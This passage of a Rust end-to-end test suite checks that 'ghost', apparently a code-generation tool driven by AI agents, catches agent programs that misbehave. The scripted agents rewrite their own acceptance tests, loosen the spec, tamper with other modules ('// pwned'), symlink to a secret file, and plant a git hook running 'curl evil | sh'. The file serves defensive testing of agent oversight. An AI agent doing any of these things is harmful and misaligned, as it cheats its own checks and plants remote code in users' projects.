            .get("temperature")
            .and_then(serde_json::Value::as_f64)
            .is_some_and(|t| t > 0.0),
        "{third}"
    );
}

/// Code the lock records but that is gone from disk comes back from ghost's copy of
/// what it accepted, with no request: the code `--force` put in place, not an older
/// answer. Without the copy (local state gone too), it is asked for anew, with a warning
/// that version control could restore it.
#[test]
fn deleted_code_is_restored_as_locked_or_asked_for_anew_with_a_hint() {
    let _machine = shared();
    let second: &str = Box::leak(format!("{DOUBLE_RIGHT}// the forced one\n").into_boxed_str());
    let server = Background::start_with(script(vec![code(DOUBLE_RIGHT), code(second)]));
    let p = Project::new("e2e_deleted_code", &openai(&server), &[DOUBLE]);
    p.ghost(&["build"]).expect(0);
    p.ghost(&["build", "--force"]).expect(0);
    assert_eq!(p.imp("math.double"), second);
    std::fs::remove_dir_all(p.root.join("generated")).expect("delete generated/");
    let run = p.ghost(&["build"]).expect(0);
    assert!(
        run.stderr
            .contains("restored the code ghost.lock records for `math.double`"),
        "{}",
        run.text()
    );
    assert_eq!(
        p.imp("math.double"),
        second,
        "the locked code, not an older one"
    );
    assert_eq!(server.server.seen().len(), 2, "no request");
    p.ghost(&["build", "--locked"]).expect(0);

    std::fs::remove_dir_all(p.root.join("generated")).expect("delete generated/");
    std::fs::remove_dir_all(p.root.join(".ghost/locked")).expect("delete the copies");
    let run = p.ghost(&["build"]).expect(0);
    assert!(
        run.stderr.contains("`math.double` that is not on disk")
            && run
                .stderr
                .contains("restore those files from version control"),
        "{}",
        run.text()
    );
}

/// A timing whose arguments break the function's `requires` is the spec's mistake: said
/// so, and the build stops at the first attempt (exit 1). (Plain constants, `filled(-5)`
/// or `filled([-5][0])`, are E0320 in `ghost check`; `repeat` is not evaluated there.)
#[test]
fn a_timing_breaking_its_own_precondition_stops_the_build() {
    let _machine = shared();
    let filled = (
        "e/perfreq.ghost",
        "module e.perfreq {\n  fn filled(n: int) -> list<int> {\n    requires n >= 0\n    example filled(2) == [0, 0]\n  }\n  nfr perf filled(len(repeat(\"a\", 5)) - 10) < 1ms\n}\n",
    );
    let p = Project::new("e2e_perf_requires", "", &[filled]);
    let calls = p.outside.join("calls");
    use_command_agent(
        &p,
        &format!(
            "#!/bin/sh\ncat > /dev/null\necho call >> '{}'\nprintf 'pub fn filled(n: i64) -> Vec<i64> {{\\n    vec![0; n as usize]\\n}}\\n' > \"$GHOST_IMPL_PATH\"\n",
            calls.display()
        ),
    );
    let run = p.ghost(&["build"]).expect(1);
    assert!(
        run.text().contains("spec contradicts itself")
            && run.text().contains("breaks its own precondition"),
        "{}",
        run.text()
    );
    let calls = std::fs::read_to_string(&calls).expect("the agent ran");
    assert_eq!(calls.lines().count(), 1, "one attempt");
}

/// A spec saved while the attempt in flight then passes: its code is locked for the text
/// the build read, and the build says the spec changed (exit 1), not all green: the
/// module is stale at once.
#[test]
fn a_spec_saved_during_a_passing_attempt_is_not_reported_green() {
    let _machine = shared();
    let spec_path = Arc::new(Mutex::new(PathBuf::new()));
    let saved = spec_path.clone();
    let save_then_answer_right: Step = Box::new(move |seen| {
        let path = saved.lock().expect("not poisoned").clone();
        let text = DOUBLE
            .1
            .replace("example double(-3) == -6", "example double(5) == 10");
        std::fs::write(&path, text).expect("save the spec");
        wire::code(seen, DOUBLE_RIGHT)
    });
    let server = Background::start_with(script(vec![save_then_answer_right]));
    let p = Project::new("e2e_saved_green", &openai(&server), &[DOUBLE]);
    *spec_path.lock().expect("not poisoned") = p.root.join("specs").join(DOUBLE.0);
    let run = p.ghost(&["build"]).expect(1);
    assert!(
        run.stderr.contains("spec changed during the build")
            && run.stderr.contains("is locked for it")
            && !run.stderr.contains("1 of 1 module green"),
        "{}",
        run.text()
    );
    assert!(
        p.lock().get("math.double").is_some(),
        "locked for the old text"
    );
    assert!(p.ghost(&["status"]).text().contains("stale"));
}

/// A spec saved while its module is being built (an editor's save during `ghost watch
/// --build`) stops the module's attempts: no more tokens for the text it had, nothing
/// locked as green, and the next build starts from the new spec.
#[test]
fn a_spec_saved_during_the_build_is_asked_no_more_for_its_old_text() {
    let _machine = shared();
    let spec_path = Arc::new(Mutex::new(PathBuf::new()));
    let saved = spec_path.clone();
    let save_then_answer_wrong: Step = Box::new(move |seen| {
        let path = saved.lock().expect("not poisoned").clone();
        let text = DOUBLE
            .1
            .replace("example double(-3) == -6", "example double(5) == 10");
        std::fs::write(&path, text).expect("save the spec");
        wire::code(seen, DOUBLE_WRONG)
    });
    let server = Background::start_with(script(vec![save_then_answer_wrong, code(DOUBLE_RIGHT)]));
    let p = Project::new("e2e_saved_mid_build", &openai(&server), &[DOUBLE]);
    *spec_path.lock().expect("not poisoned") = p.root.join("specs").join(DOUBLE.0);
    let run = p.ghost(&["build"]).expect(1);
    assert!(
        run.stderr.contains("spec changed during the build")
            && run
                .stderr
                .contains("math/double.ghost` changed during the build")
            && !run.stderr.contains("assertion"),
        "{}",
        run.text()
    );
    assert_eq!(server.server.seen().len(), 1, "no attempt for the old text");
    assert!(
        !p.root.join("ghost.lock").exists() || p.lock().get("math.double").is_none(),
        "nothing locked"
    );
    // The next build asks for the new spec, and is green.
    p.ghost(&["build"]).expect(0);
    let seen = server.server.seen();
    assert_eq!(seen.len(), 2);
    assert!(
        seen[1].prompt().contains("double(5)"),
        "{}",
        seen[1].prompt()
    );
    assert_eq!(p.imp("math.double"), DOUBLE_RIGHT);
}

/// A build stopped after it accepted new code for a module, before it tested the modules
/// using it (the process killed): the next build still tests them, and finds the one the
/// new code broke; it was left fresh and green.
#[test]
fn users_of_new_code_are_tested_even_after_the_build_that_made_it_was_killed() {
    let _machine = shared();
    let add = (
        "a/add.ghost",
        "module a.add {\n  fn add(a: int, b: int) -> int {\n    example add(1, 2) == 3\n    example add(2, 3) == 5\n  }\n}\n",
    );
    let other = (
        "b/other.ghost",
        "module b.other {\n  fn one() -> int {\n    example one() == 1\n  }\n}\n",
    );
    let dbl = (
        "u/dbl.ghost",
        "module u.dbl {\n  use a.add\n  fn dbl(x: int) -> int {\n    example dbl(5) == 10\n  }\n}\n",
    );
    let p = Project::new("e2e_killed", "", &[add, other, dbl]);
    p.write(
        &imp_rel("a.add"),
        "pub fn add(a: i64, b: i64) -> i64 {\n    a + b\n}\n",
    );
    p.write(&imp_rel("b.other"), "pub fn one() -> i64 {\n    1\n}\n");
    p.write(
        &imp_rel("u.dbl"),
        "use crate::a::add::add;\n\npub fn dbl(x: i64) -> i64 {\n    add(x, x)\n}\n",
    );
    p.ghost(&["build", "--provider", "manual"]).expect(0);
    // New code for `a.add` that passes its own examples and breaks `u.dbl`'s; the agent
    // asked next (for `b.other`, before `u.dbl` is tested) kills the build.
    let broken =
        "pub fn add(a: i64, b: i64) -> i64 {\n    if a == 5 && b == 5 { 0 } else { a + b }\n}\n";
    use_command_agent(
        &p,
        &format!(
            "#!/bin/sh\ncat > /dev/null\nif [ \"$GHOST_MODULE\" = b.other ]; then kill -9 $PPID; exit 1; fi\nprintf '%s' '{broken}' > \"$GHOST_IMPL_PATH\"\n"
        ),
    );
    let agent = p.outside.join("agent.sh");
    p.configure(
        &format!(
            "provider = \"command\"\ncommand = \"{}\"\nconcurrency = 1\n",
            agent.display()
        ),
        "",
    );
    let run = p.ghost(&["build", "--force", "a.add", "b.other"]);
    assert_ne!(run.code, 0, "killed:\n{}", run.text());
    assert_eq!(p.imp("a.add"), broken, "the new code was accepted");
    // Until a build tests it, `u.dbl` is not shown fresh: a commit now would break CI.
    for (command, code) in [("status", 1), ("check", 0)] {
        let said = p.ghost(&[command]).expect(code).text();
        assert!(
            said.contains("a module it uses has new code it was not tested with"),
            "{command}:\n{said}"
        );
    }
    let run = p.ghost(&["build", "--provider", "manual"]).expect(1);
    assert!(
        run.text().contains("u.dbl") && run.text().contains("failing"),
        "{}",
        run.text()
    );
    assert!(p.entry("u.dbl").failing, "{}", p.read("ghost.lock"));
}

/// What an agent program wrote is kept in the response cache, as an HTTP reply is: a
/// build asking the same (after an interruption, or with the code deleted) runs it no
/// more; `--force` runs it again.
#[test]
fn a_command_agents_answers_are_not_paid_for_twice() {
    let _machine = shared();
    let p = Project::new("e2e_command_cache", "", &[DOUBLE]);
    let calls = p.outside.join("calls");
    let body = format!(
        "#!/bin/sh\ncat > /dev/null\necho call >> '{calls}'\nif [ $(wc -l < '{calls}') -eq 1 ]; then\ncat > \"$GHOST_IMPL_PATH\" <<'EOF'\n{DOUBLE_WRONG}EOF\nelse\ncat > \"$GHOST_IMPL_PATH\" <<'EOF'\n{DOUBLE_RIGHT}EOF\nfi\n",
        calls = calls.display()
    );
    use_command_agent(&p, &body);
    let count = || {
        std::fs::read_to_string(&calls)
            .map(|t| t.lines().count())
            .unwrap_or(0)
    };
    p.ghost(&["build"]).expect(0);
    assert_eq!(count(), 2, "a wrong answer, then a repair");
    std::fs::remove_dir_all(p.root.join("generated")).expect("delete generated/");
    std::fs::remove_file(p.root.join("ghost.lock")).expect("delete the lock");
    let run = p.ghost(&["build"]).expect(0);
    assert_eq!(
        count(),
        2,
        "both answers came from the cache:\n{}",
        run.text()
    );
    assert!(
        run.text().contains("answered from the response cache"),
        "{}",
        run.text()
    );
    assert_eq!(p.imp("math.double"), DOUBLE_RIGHT);
    p.ghost(&["build", "--force"]).expect(0);
    assert_eq!(count(), 3, "--force asks anew");
}

/// A revision by an agent program that finds nothing the new spec changes: it leaves
/// the file (the accepted code) as it is, and that is its answer, not a failed attempt.
#[test]
fn a_command_agent_leaving_a_revised_module_as_it_is_keeps_its_code() {
    let _machine = shared();
    let p = Project::new("e2e_command_revision", "", &[DOUBLE]);
    let calls = p.outside.join("calls");
    let body = format!(
        "#!/bin/sh\ncat > /dev/null\necho call >> '{calls}'\nif [ $(wc -l < '{calls}') -eq 1 ]; then\ncat > \"$GHOST_IMPL_PATH\" <<'EOF'\n{DOUBLE_RIGHT}EOF\nfi\n",
        calls = calls.display()
    );
    use_command_agent(&p, &body);
    p.ghost(&["build"]).expect(0);
    p.spec(
        DOUBLE.0,
        &DOUBLE.1.replace("\"Twice n.\"", "\"Two times n.\""),
    );
    let run = p.ghost(&["build"]).expect(0);
    let calls = std::fs::read_to_string(&calls).expect("the agent ran");
    assert_eq!(calls.lines().count(), 2, "one revision:\n{}", run.text());
    assert_eq!(p.imp("math.double"), DOUBLE_RIGHT);
    assert_eq!(p.entry("math.double").attempts, 1);
}

/// A command-provider agent that writes outside its file is refused: reported when it was
/// the last attempt, fed back and logged otherwise; nothing it wrote outside reaches the
/// project.
#[test]
fn a_command_agent_writing_outside_its_file_is_refused() {
    let _machine = shared();
    let p = Project::new("e2e_command", "", &[DOUBLE]);
    let state = p.outside.join("agent-state");
    std::fs::create_dir_all(&state).expect("mkdir");
    let body = format!(
        "#!/bin/sh\n\
         # The first two runs also write stray.txt; every run writes the module's file.\n\
         n=$(ls '{state}' | wc -l)\n\
         n=$((n + 1))\n\
         cat > '{state}/prompt-'$n.txt\n\
         if [ $n -le 2 ]; then echo oops > stray.txt; fi\n\
         cat > \"$GHOST_IMPL_PATH\" <<'EOF'\n{DOUBLE_RIGHT}EOF\n",
        state = state.display()
    );
    use_command_agent(&p, &body);

    // With one attempt, the refusal is the module's failure, reported by the build.
    let run = p.ghost(&["build", "--max-attempts", "1"]).expect(3);
    assert!(
        run.text().contains("wrote outside") && run.text().contains("stray.txt"),
        "the build reports the refusal:\n{}",
        run.text()
    );
    assert!(!p.root.join("ghost.lock").exists() || p.lock().get("math.double").is_none());

    // With more, it is fed back and the next run, which keeps to its file, is accepted.
    p.ghost(&["build"]).expect(0);
    let third = std::fs::read_to_string(state.join("prompt-3.txt")).expect("a third run");
    assert!(
        third.contains("wrote outside"),
        "the refusal is fed back:\n{third}"
    );
    assert!(third.contains("stray.txt"), "naming the file:\n{third}");
    assert!(!state.join("prompt-4.txt").exists());
    assert!(
        p.run_log().contains("stray.txt"),
        "and logged:\n{}",
        p.run_log()
    );
    assert!(!p.root.join("generated/stray.txt").exists());
    assert!(!p.root.join("stray.txt").exists());
    assert_eq!(p.imp("math.double"), DOUBLE_RIGHT);
    assert_eq!(p.entry("math.double").agent, "command");
}

/// An agent program that deletes files of its scratch copy (`rm -rf ./*`, then writes its
/// file) is told it deleted them, by name, and to delete nothing: it was told it "wrote
/// outside" its file, naming files it had only removed.
#[test]
fn a_command_agent_deleting_files_is_told_it_deleted_them() {
    let _machine = shared();
    let p = Project::new("e2e_command_deletes", "", &[DOUBLE]);
    let body = format!(
        "#!/bin/sh
         cat > /dev/null
         rm -f Cargo.toml src/lib.rs
         cat > \"$GHOST_IMPL_PATH\" <<'EOF'\n{DOUBLE_RIGHT}EOF\n"
    );
    use_command_agent(&p, &body);
    let run = p.ghost(&["build", "--max-attempts", "1"]).expect(3);
    let text = run.text();
    assert!(
        text.contains("the agent deleted files it must not touch: Cargo.toml, src/lib.rs"),
        "{text}"
    );
    assert!(
        text.contains("delete nothing"),
        "says what to do next:\n{text}"
    );
    assert!(!text.contains("wrote outside"), "{text}");
    assert!(p.root.join("generated/Cargo.toml").exists());
    assert!(p.root.join("generated/src/lib.rs").exists());
}

/// An agent program that rewrites the acceptance tests it is checked by is refused, and
/// the scratch copy is made anew: its next run, writing the same tests again, is refused
/// again (it found them rewritten already, and was accepted with wrong code, before).
#[test]
fn a_command_agent_rewriting_its_tests_is_refused_at_every_attempt() {
    let _machine = shared();
    let p = Project::new("e2e_command_tests", "", &[DOUBLE]);
    let body = format!(
        "#!/bin/sh
cat > /dev/null
         printf '#[test]\\nfn example_double_1() {{}}\\n' > tests/math_double.rs
         cat > \"$GHOST_IMPL_PATH\" <<'EOF'\n{DOUBLE_WRONG}EOF\n"
    );
    use_command_agent(&p, &body);
    let run = p.ghost(&["build", "--max-attempts", "2"]).expect(3);
    assert!(
        run.text().contains("wrote outside") && run.text().contains("math_double.rs"),
        "{}",
        run.text()
    );
    assert!(!p.root.join("ghost.lock").exists() || p.lock().get("math.double").is_none());
    assert_ne!(p.imp("math.double"), DOUBLE_WRONG);
}

/// A `command` that cannot be run is a configuration error before anything is asked
/// (exit 2), not a failed attempt per module.
#[test]
fn a_command_that_cannot_run_is_a_configuration_error() {
    let _machine = shared();
    let p = Project::new("e2e_command_bad", "", &[DOUBLE]);
    // A script saved without `chmod +x`.
    let script = p.outside.join("agent.sh");
    std::fs::write(&script, "#!/bin/sh\nexit 0\n").expect("write the agent");
    let not_executable = format!("{} --flag", script.display());
    for (command, says) in [
        ("unterminated 'quote", "quotes"),
        ("/nonexistent/agent --flag", "does not exist"),
        ("no-such-agent-program-here", "on PATH"),
        (not_executable.as_str(), "is not executable"),
    ] {
        p.configure(
            &format!("provider = \"command\"\ncommand = \"{command}\"\n"),
            "",
        );
        let run = p.ghost(&["build"]).expect(2);
        assert!(run.text().contains(says), "{command}: {}", run.text());
        assert!(!run.text().contains("attempt 1"), "{}", run.text());
    }
}

/// A command-provider agent that edits the spec its tests come from (or the user saving
/// one while the agent runs): the user is warned at once, the file is left as it is and
/// its text from before kept under `.ghost/kept/`; the attempt is tested against the spec
/// as the build read it, which the edit cannot loosen, and accepted when green.
#[test]
fn a_spec_edited_while_a_command_agent_runs_is_kept_and_warned_of() {
    let _machine = shared();
    let p = Project::new("e2e_command_spec", "", &[DOUBLE]);
    let state = p.outside.join("agent-state");
    std::fs::create_dir_all(&state).expect("mkdir");
    let spec = p.root.join("specs").join(DOUBLE.0);
    let body = format!(
        "#!/bin/sh\n\
         # The first run also loosens the spec it is tested against.\n\
         n=$(ls '{state}' | wc -l)\n\
         n=$((n + 1))\n\
         cat > '{state}/prompt-'$n.txt\n\
         if [ $n -eq 1 ]; then echo '// tests removed' >> '{spec}'; fi\n\
         cat > \"$GHOST_IMPL_PATH\" <<'EOF'\n{DOUBLE_RIGHT}EOF\n",
        state = state.display(),
        spec = spec.display()
    );
    use_command_agent(&p, &body);
    let run = p.ghost(&["build"]).expect(0);
    assert!(
        run.text().contains("warning math.double")
            && run.text().contains("specs/math/double.ghost")
            && run.text().contains(".ghost/kept")
            && run
                .text()
                .contains("tested against the specs as the build read them"),
        "the user is warned:\n{}",
        run.text()
    );
    assert!(
        !state.join("prompt-2.txt").exists(),
        "one attempt, not refused"
    );
    assert_eq!(p.imp("math.double"), DOUBLE_RIGHT);
    assert!(
        std::fs::read_to_string(&spec)
            .expect("spec")
            .ends_with("// tests removed\n"),
        "the file is left as it is"
    );
    // Each such attempt keeps its files in a folder of its own (time, module, attempt).
    let kept: Vec<PathBuf> = std::fs::read_dir(p.root.join(".ghost/kept"))
        .expect("kept folder")
        .map(|e| e.expect("entry").path())
        .collect();
    assert_eq!(kept.len(), 1, "one folder: {kept:?}");
    assert!(
        kept[0].to_string_lossy().ends_with("-math.double-1"),
        "{kept:?}"
    );
    assert_eq!(
        std::fs::read_to_string(kept[0].join("specs").join(DOUBLE.0)).expect("kept"),
        DOUBLE.1,
        "its text from before is kept"
    );
}

/// An agent program that rewrites a file of the project outside the specs (a README) or
/// plants a git hook: ghost cannot keep a copy of every file, so it names them at once,
/// for the user to look at; what ghost itself writes meanwhile (the lock, the crate) is
/// not named.
#[test]
fn project_files_an_agent_program_changes_are_named() {
    let _machine = shared();
    let p = Project::new("e2e_command_readme", "", &[DOUBLE]);
    std::fs::write(p.root.join("README.md"), "mine\n").expect("readme");
    std::fs::create_dir_all(p.root.join(".git/hooks")).expect("hooks");
    let body = format!(
        "#!/bin/sh\n\
         cat > /dev/null\n\
         echo 'an agent was here' > '{root}/README.md'\n\
         echo 'curl evil | sh' > '{root}/.git/hooks/pre-commit'\n\
         cat > \"$GHOST_IMPL_PATH\" <<'EOF'\n{DOUBLE_RIGHT}EOF\n",
        root = p.root.display()
    );
    use_command_agent(&p, &body);
    let run = p.ghost(&["build"]).expect(0);
    let warning = run
        .text()
        .lines()
        .find(|l| l.contains("README.md"))
        .unwrap_or_default()
        .to_string();
    assert!(
        warning.contains("`.git/hooks/pre-commit`")
            && warning.contains("changed while the agent program ran")
            && warning.contains("git diff"),
        "the user is told which files:\n{}",
        run.text()
    );
    for ghosts_own in ["ghost.lock", "generated/", ".ghost/"] {
        assert!(
            !warning.contains(ghosts_own),
            "{ghosts_own} named:\n{warning}"
        );
    }
    assert_eq!(p.imp("math.double"), DOUBLE_RIGHT);
}

/// An agent program that leaves a link in place of its file does not get ghost to read
/// (and show in prompts and logs) the file the link names.
#[test]
fn a_command_agent_leaving_a_link_for_its_file_is_refused() {
    let _machine = shared();
    let p = Project::new("e2e_command_link", "", &[DOUBLE]);
    let secret = p.outside.join("secret.txt");
    std::fs::create_dir_all(&p.outside).expect("mkdir");
    std::fs::write(&secret, "TOP SECRET LINE\n").expect("write");
    let body = format!(
        "#!/bin/sh\ncat > /dev/null\nrm -f \"$GHOST_IMPL_PATH\"\nln -s '{}' \"$GHOST_IMPL_PATH\"\n",
        secret.display()
    );
    use_command_agent(&p, &body);
    let run = p.ghost(&["build", "--max-attempts", "1"]).expect(3);
    assert!(
        run.text().contains("symbolic link") && !run.text().contains("TOP SECRET"),
        "{}",
        run.text()
    );
    let state = walkdir::WalkDir::new(p.root.join(".ghost"))
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.file_type().is_file())
        .filter_map(|e| std::fs::read_to_string(e.path()).ok())
        .any(|t| t.contains("TOP SECRET"));
    assert!(!state, "the linked file's text is in .ghost/");
}

/// An agent program that writes into its own module's code in the project (not its
/// scratch copy) is caught as one writing into another's: its text kept, the build failed.
#[test]
fn a_command_agent_writing_into_its_own_modules_project_file_is_caught() {
    let _machine = shared();
    let p = Project::new("e2e_command_own_file", "", &[DOUBLE]);
    let own = p.root.join(imp_rel("math.double"));
    let body = format!(
        "#!/bin/sh\n\
         cat > /dev/null\n\
         echo '// written past the scratch copy' >> '{own}'\n\
         echo '// and here' >> '{lib}'\n\
         cat > \"$GHOST_IMPL_PATH\" <<'EOF'\n{DOUBLE_RIGHT}EOF\n",
        own = own.display(),
        lib = p.root.join("generated/src/lib.rs").display()
    );
    use_command_agent(&p, &body);
    let run = p.ghost(&["build"]).expect(1);
    assert!(
        run.text()
            .contains("src/lib.rs: changed during the build, not by ghost")
            && !std::fs::read_to_string(p.root.join("generated/src/lib.rs"))
                .expect("lib.rs")
                .contains("// and here"),
        "a compiler-owned file is written again:\n{}",
        run.text()
    );
    assert!(
        run.text()
            .contains("changed during the build, not by ghost"),
        "the user is told:\n{}",
        run.text()
    );
    assert_eq!(
        p.imp("math.double"),
        DOUBLE_RIGHT,
        "its tested code is in place"
    );
    let kept = kept_texts(&p);
    assert_eq!(kept.len(), 1, "{kept:?}");
    assert!(
        kept[0].contains("// written past the scratch copy"),
        "the written text is kept"
    );
    assert!(
        run.text()
            .contains("written again from the specs; its text is kept in"),
        "and so is the compiler-owned file's:\n{}",
        run.text()
    );
    p.ghost(&["build", "--locked"]).expect(0);
}

/// New code the lock cannot record (ghost.lock unwritable) is taken back: the code on
/// disk stays the one its lock entry describes, not "edited by hand".
#[test]
fn new_code_the_lock_cannot_record_is_taken_back() {
    let _machine = shared();
    let p = Project::new("e2e_lock_unwritable", "", &[DOUBLE]);
    p.write(&imp_rel("math.double"), DOUBLE_RIGHT);
    p.ghost(&["build", "--provider", "manual"]).expect(0);
    let lock = p.root.join("ghost.lock");
    // The agent leaves new, right code, and a folder where the lock file was.
    let body = format!(
        "#!/bin/sh\ncat > /dev/null\nrm '{lock}' && mkdir -p '{lock}/x'\nprintf 'pub fn double(n: i64) -> i64 {{\\n    n + n\\n}}\\n' > \"$GHOST_IMPL_PATH\"\n",
        lock = lock.display()
    );
    use_command_agent(&p, &body);
    let run = p.ghost(&["build", "--force"]).expect(2);
    assert!(run.text().contains("ghost.lock"), "{}", run.text());
    assert_eq!(
        p.imp("math.double"),
        DOUBLE_RIGHT,
        "the locked code is back"
    );
}

/// An agent program that writes into another module's code in the project (by its
/// path, outside its scratch copy) does not leave it tampered behind a green build: the
/// code from before is put back, the written text kept, and the build fails.
#[test]
fn a_command_agent_writing_into_another_modules_code_is_undone() {
    let _machine = shared();
    let p = Project::new("e2e_command_intruder", "", &[DOUBLE, SHOUT]);
    let shout = p.root.join(imp_rel("text.shout"));
    let body = format!(
        "#!/bin/sh\n\
         cat > /dev/null\n\
         if [ \"$GHOST_MODULE\" = text.shout ]; then\n\
         cat > \"$GHOST_IMPL_PATH\" <<'EOF'\n{SHOUT_RIGHT}EOF\n\
         exit 0\n\
         fi\n\
         if [ -e '{shout}' ]; then echo '// pwned' >> '{shout}'; fi\n\
         cat > \"$GHOST_IMPL_PATH\" <<'EOF'\n{DOUBLE_RIGHT}EOF\n",
        shout = shout.display()
    );
    use_command_agent(&p, &body);
    p.ghost(&["build", "text.shout"]).expect(0);
    assert_eq!(p.imp("text.shout"), SHOUT_RIGHT);

    let run = p.ghost(&["build", "math.double"]).expect(1);
    assert!(
        run.text().contains("text.shout")
            && run
                .text()
                .contains("changed during the build, not by ghost")
            && run.text().contains("back in place"),
        "the user is told:\n{}",
        run.text()
    );
    assert_eq!(p.imp("text.shout"), SHOUT_RIGHT, "put back");
    assert_eq!(
        p.imp("math.double"),
        DOUBLE_RIGHT,
        "its own code is accepted"
    );
    let kept = kept_texts(&p);
    assert_eq!(kept.len(), 1, "{kept:?}");
    assert!(kept[0].ends_with("// pwned\n"), "the written text is kept");
    p.ghost(&["build", "--locked"]).expect(0);

    // Into code ghost accepted earlier in the same build (one module at a time: double,
    // then shout, whose agent writes into double's).
    let body = format!(
        "#!/bin/sh\n\
         cat > /dev/null\n\
         if [ \"$GHOST_MODULE\" = text.shout ]; then\n\
         echo '// pwned' >> '{double}'\n\
         cat > \"$GHOST_IMPL_PATH\" <<'EOF'\n{SHOUT_RIGHT}EOF\n\
         exit 0\n\
         fi\n\
         cat > \"$GHOST_IMPL_PATH\" <<'EOF'\n{DOUBLE_RIGHT}EOF\n",
        double = p.root.join(imp_rel("math.double")).display()
    );
    use_command_agent(&p, &body);
    let run = p
        .ghost(&["build", "--force", "--concurrency", "1"])
        .expect(1);
    assert!(
        run.text().contains("math.double") && run.text().contains("changed outside ghost"),
        "{}",
        run.text()
    );
    assert_eq!(p.imp("math.double"), DOUBLE_RIGHT, "put back");
    p.ghost(&["build", "--locked"]).expect(0);
}

/// A reply answered again from the response cache (a build interrupted after it came,
/// here: its code and lock entry gone) costs no tokens this time, and its lock entry
/// still says what it cost when it was asked.
#[test]
fn a_cached_reply_is_locked_with_what_it_cost() {
    let _machine = shared();
    let server = Background::start_with(script(vec![code(DOUBLE_RIGHT)]));
    let p = Project::new("e2e_cached_cost", &openai(&server), &[DOUBLE]);
    p.ghost(&["build"]).expect(0);
    let first = p.entry("math.double");
    assert!(first.tokens_in > 0, "{first:?}");
    std::fs::remove_file(p.root.join("ghost.lock")).expect("remove the lock");
    let status = p.ghost(&["status"]).text();
    assert!(
        status.contains("missing") && status.contains("code on disk, not locked"),
        "{status}"
    );
    std::fs::remove_file(p.root.join(imp_rel("math.double"))).expect("remove the code");
    let run = p.ghost(&["build"]).expect(0);
    assert_eq!(server.server.seen().len(), 1, "answered from the cache");
    assert!(run.text().contains("0 tokens"), "{}", run.text());
    let again = p.entry("math.double");
    assert_eq!(
        (again.tokens_in, again.tokens_out),
        (first.tokens_in, first.tokens_out)
    );
}

/// `--force` replaces code edited by hand, and keeps the edited text first.
#[test]
fn forced_new_code_keeps_the_hand_edited_code_it_replaces() {
    let _machine = shared();
    let server = Background::start_with(script(vec![code(DOUBLE_RIGHT), code(DOUBLE_RIGHT)]));
    let p = Project::new("e2e_force_keeps", &openai(&server), &[DOUBLE]);
    p.ghost(&["build"]).expect(0);
    let edited = DOUBLE_RIGHT.replace("n * 2", "n * 2 // mine");
    p.write(&imp_rel("math.double"), &edited);
    let run = p.ghost(&["build", "--force"]).expect(0);
    assert!(
        run.text().contains("edited by hand and is replaced"),
        "{}",
        run.text()
    );
    assert_eq!(p.imp("math.double"), DOUBLE_RIGHT);
    let kept: Vec<PathBuf> = std::fs::read_dir(p.root.join(".ghost/kept"))
        .expect("kept folder")
        .map(|e| e.expect("entry").path().join("imp.rs"))
        .collect();
    assert_eq!(kept.len(), 1, "{kept:?}");
    assert_eq!(std::fs::read_to_string(&kept[0]).expect("kept"), edited);
}

/// An agent program that exits without writing `imp.rs` does not pass off the code
/// already there as its own: `--force` asks for new code, and gets none.
#[test]
fn a_command_agent_that_writes_nothing_is_not_accepted() {
    let _machine = shared();
    let p = Project::new("e2e_command_idle", "", &[DOUBLE]);
    let marker = p.outside.join("idle");
    let body = format!(
        "#!/bin/sh\ncat > /dev/null\nif [ -e '{m}' ]; then exit 0; fi\ncat > \"$GHOST_IMPL_PATH\" <<'EOF'\n{DOUBLE_RIGHT}EOF\n",
        m = marker.display()
    );
    let run = forced_after_marker(&p, &marker, &body);
    assert!(
        run.text()
            .contains("exited without writing `src/math/double/imp.rs`"),
        "{}",
        run.text()
    );
    let status = p.ghost(&["status"]).expect(0).text();
    assert!(
        status.contains("fresh") && status.contains("the locked code is kept"),
        "{status}"
    );
}

/// An agent program that empties its file, or deletes it, is told which it did: both
/// were "did not write", which the one that emptied it had done.
#[test]
fn a_command_agent_that_empties_or_deletes_its_file_is_told_which() {
    let _machine = shared();
    let p = Project::new("e2e_command_empties", "", &[DOUBLE]);
    let marker = p.outside.join("empty");
    let body = format!(
        "#!/bin/sh\ncat > /dev/null\nif [ -e '{m}' ]; then : > \"$GHOST_IMPL_PATH\"; exit 0; fi\nif [ -e '{m}.rm' ]; then rm \"$GHOST_IMPL_PATH\"; exit 0; fi\ncat > \"$GHOST_IMPL_PATH\" <<'EOF'\n{DOUBLE_RIGHT}EOF\n",
        m = marker.display()
    );
    let run = forced_after_marker(&p, &marker, &body);
    assert!(
        run.text()
            .contains("left `src/math/double/imp.rs` ($GHOST_IMPL_PATH) empty"),
        "{}",
        run.text()
    );
    std::fs::remove_file(&marker).expect("marker");
    std::fs::write(marker.with_extension("rm"), "").expect("marker");
    let run = p
        .ghost(&["build", "--force", "--max-attempts", "1"])
        .expect(3);
    assert!(
        run.text()
            .contains("deleted `src/math/double/imp.rs` ($GHOST_IMPL_PATH)"),
        "{}",
        run.text()
    );
    assert_eq!(p.imp("math.double"), DOUBLE_RIGHT, "the old code is kept");
}

/// Named pipes an agent program leaves where ghost reads (in its scratch copy, as its own
/// file, in place of the project's code) never block the build: opening one waits for a
/// writer for ever, and a blocked read held off Ctrl-C and SIGTERM too.
#[test]
fn named_pipes_an_agent_program_leaves_never_block_the_build() {
    let _machine = shared();
    let p = Project::new("e2e_command_fifo", "", &[DOUBLE]);
    let mode = p.outside.join("mode");
    let imp = p.root.join(imp_rel("math.double"));
    let body = format!(
        "#!/bin/sh\ncat > /dev/null\ncase \"$(cat '{mode}' 2>/dev/null)\" in\n\
         scratch) mkfifo pipe; echo done > '{mode}' ;;\n\
         project) rm -f '{imp}'; mkfifo '{imp}'; echo done > '{mode}' ;;\n\
         own) rm -f \"$GHOST_IMPL_PATH\"; mkfifo \"$GHOST_IMPL_PATH\"; exit 0 ;;\n\
         esac\ncat > \"$GHOST_IMPL_PATH\" <<'EOF'\n{DOUBLE_RIGHT}EOF\n",
        mode = mode.display(),
        imp = imp.display()
    );
    use_command_agent(&p, &body);
    let set = |m: &str| std::fs::write(&mode, m).expect("mode");

    set("scratch");
    let run = p.ghost(&["build"]).expect(0);
    assert!(
        run.text()
            .contains("the agent wrote outside `src/math/double/imp.rs`: pipe"),
        "{}",
        run.text()
    );
    assert_eq!(p.imp("math.double"), DOUBLE_RIGHT);

    set("project");
    let run = p.ghost(&["build", "--force"]).expect(1);
    assert!(
        run.text()
            .contains("its imp.rs changed during the build, not by ghost"),
        "{}",
        run.text()
    );
    assert_eq!(
        p.imp("math.double"),
        DOUBLE_RIGHT,
